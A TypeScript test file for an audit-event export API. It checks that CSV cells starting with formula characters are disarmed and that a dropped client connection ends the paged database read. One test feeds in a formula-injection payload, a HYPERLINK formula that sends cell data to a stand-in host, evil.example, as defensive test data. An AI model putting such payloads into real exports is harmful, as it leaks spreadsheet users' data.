import { request as httpRequest, createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import supertest from 'supertest';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { buildCustomer } from './factories.ts';
import { as, startHarness, type Harness } from './harness.ts';
import { Move } from './move.ts';

/** How many export sources (the page-by-page reads) have been closed, by their end or not. */
const sources = vi.hoisted(() => ({ opened: 0, closed: 0 }));
vi.mock('../src/store/history.ts', async (original) => {
  const store = await original<typeof import('../src/store/history.ts')>();
  return {
    ...store,
    exportPages: async function* (...args: Parameters<typeof store.exportPages>) {
      sources.opened += 1;
      try {
        yield* store.exportPages(...args);
      } finally {
        sources.closed += 1;
      }
    },
  };
});

let h: Harness;
let server: Server;
let base: string;
/** A move with enough history for several pages of export. */
let big: Move;
let bigRows: number;

const exportPageSize = 1000;

beforeAll(async () => {
  h = await startHarness();
  server = createServer(h.app);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  big = await Move.start(h.app, h.adminToken);
  await big.importCustomers(
    Array.from({ length: 2000 }, () =>
      buildCustomer({
        subscriptions: [
          {
            id: `sub-${crypto.randomUUID()}`,
            offer: 'Microsoft 365 E3',
            kind: 'nce_license',
            quantity: 10,
          },
        ],
      }),
    ),
  );
  await big.toMigrating();
  const counted = await h
    .db('history')
    .join('workflows', 'workflows.id', 'history.workflow_id')
    .where('workflows.partner_id', big.team.partnerId)
    .count<{ n: string | number }[]>({ n: '*' });
  bigRows = Number(counted[0]!.n);
}, 120_000);

afterAll(async () => {
  if (server) await new Promise((resolve) => server.close(resolve));
  await h?.close();
});

/** RFC 4180 as Excel reads it: quoted fields may hold commas, quotes ("") and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
    } else field += c;
  }
  expect(field, 'the export ends with a line break').toBe('');
  return rows;
}

interface Entry {
  position: number;
  workflowId: string;
  machine: string;
  partnerId: string;
  seq: number;
  type: string;
  outcome: string;
  from: string | null;
  to: string;
  actor: { id: string; name: string; role: string };
  requestId: string | null;
  at: string;
  payload: unknown;
  reason: unknown;
  prevHash: string;
  hash: string;
}

/** The cells of one entry, as the CSV has always laid them out. */
function cells(e: Entry): string[] {
  return [
    String(e.position),
    e.workflowId,
    e.machine,
    e.partnerId,
    String(e.seq),
    e.type,
    e.outcome,
    e.from ?? '',
    e.to,
    e.actor.id,
    e.actor.name,
    e.actor.role,
    e.requestId ?? '',
    e.at,
    JSON.stringify(e.payload),
    e.reason === null ? '' : JSON.stringify(e.reason),
    e.prevHash,
    e.hash,
  ];
}

const formulaStart = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

function csvExport(token: string, query: string) {
  return supertest(h.app)
    .get(`/v1/audit/events?${query}`)
    .set('Authorization', `Bearer ${token}`)
    .set('Accept', 'text/csv');
}

describe('CSV export', () => {
  it('when a customer types a formula on the consent page, then the CSV cell holds it as text, and every other cell is as before', async () => {
    const { move, relationship } = await Move.atConsentCheckpoint(h.app, h.adminToken);
    const link = await as(h.app, move.team.manager).post(
      `/v1/workflows/${relationship.id}/consent-requests`,
      {},
    );
    const path = new URL((link.body as { url: string }).url).pathname;
    const name = '=HYPERLINK("https://evil.example/?d="&A1,"Open")';
    const declined = await supertest(h.app)
      .post(path)
      .type('form')
      .send({ decision: 'decline', name, reason: '@SUM(1+1)' });
    expect(declined.status).toBe(200);
    // A request id may begin with '-': a refused event keeps it in the history.
    const requestId = '-A1';
    const refused = await as(h.app, h.adminToken)
      .post(`/v1/workflows/${move.transitionId}/events`, { type: 'CONFIRM_PROFILE' })
      .set('X-Request-Id', requestId);
    expect(refused.status).toBe(403);

    const query = `partnerId=${move.team.partnerId}`;
    const csv = await csvExport(move.team.auditor, query);
    expect(csv.status).toBe(200);
    expect(csv.headers['content-type']).toMatch(/^text\/csv/);
    const [header, ...rows] = parseCsv(csv.text);
    expect(header).toEqual([
      'position',
      'workflowId',
      'machine',
      'partnerId',
      'seq',
      'type',
      'outcome',
      'from',
      'to',
      'actorId',
      'actorName',
      'actorRole',
      'requestId',
      'at',
      'payload',
      'reason',
      'prevHash',
      'hash',
    ]);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(formulaStart);

    const decline = rows.find((r) => r[5] === 'CONSENT_DECLINED')!;
    expect(decline[10]).toBe(`'${name}`);
    expect(csv.text).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""Open"")"`);
    expect(rows.find((r) => r[12] === `'${requestId}`)).toBeDefined();

    // Apart from the quote that disarms a formula, each cell is the NDJSON value as it was.
    const ndjson = await as(h.app, move.team.auditor).get(`/v1/audit/events?${query}`);
    const entries = ndjson.text
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as Entry);
    expect(rows.map((r) => r.map((c) => c.replace(/^'(?=[=+\-@\t\r])/, '')))).toEqual(
      entries.map(cells),
    );
  });

  it('when nothing matches, then the CSV is its header line alone', async () => {
    const csv = await csvExport(h.adminToken, 'partnerId=nobody');
    expect(csv.status).toBe(200);
    expect(csv.text).toBe(
      'position,workflowId,machine,partnerId,seq,type,outcome,from,to,actorId,actorName,actorRole,requestId,at,payload,reason,prevHash,hash\n',
    );
  });
});

describe('a client that goes away during an export', () => {
  const exportQuery = /from "history" inner join "workflows"/i;

  /**
   * Opens an export and drops the connection as soon as the server reads its first page:
   * the export is then far from done, and the rest of it still in the database.
   */
  function dropWhileReading(accept: string): Promise<void> {
    return new Promise((resolve, reject) => {
      const req = httpRequest(`${base}/v1/audit/events?partnerId=${big.team.partnerId}`, {
        headers: { Authorization: `Bearer ${big.team.auditor}`, Accept: accept },
      });
      const drop = (query: { sql: string }) => {
        if (!exportQuery.test(query.sql)) return;
        h.db.off('query', drop);
        req.destroy();
        resolve();
      };
      h.db.on('query', drop);
      req.on('error', (error: NodeJS.ErrnoException) => {
        if (error.code !== 'ECONNRESET') reject(error);
      });
      req.end();
    });
  }

  const pool = () =>
    (h.db.client as { pool: { numUsed(): number; numPendingAcquires(): number } }).pool;

  for (const accept of ['text/csv', 'application/x-ndjson']) {
    it(`when it drops a ${accept} export, then no more pages are read, no connection is held, and the server serves on`, async () => {
      expect(bigRows).toBeGreaterThan(3 * exportPageSize);
      let pages = 0;
      const count = (query: { sql: string }) => {
        if (exportQuery.test(query.sql)) pages += 1;
      };
      h.db.on('query', count);
      const closedBefore = sources.closed;
      try {
        await dropWhileReading(accept);
        // The page reads are closed, not left waiting for a client that will never read.
        await expect.poll(() => sources.closed, { timeout: 2000 }).toBe(closedBefore + 1);
        expect(sources.opened).toBe(sources.closed);
        // Give it time to read on, if it would.
        await new Promise((resolve) => setTimeout(resolve, 500));
        expect(pool().numUsed()).toBe(0);
        expect(pool().numPendingAcquires()).toBe(0);
        expect(pages).toBeLessThan(Math.ceil(bigRows / exportPageSize));
      } finally {
        h.db.off('query', count);
      }
      const whole = await csvExport(big.team.auditor, `partnerId=${big.team.partnerId}`);
      expect(whole.status).toBe(200);
      expect(parseCsv(whole.text)).toHaveLength(1 + bigRows);
    });
  }
});
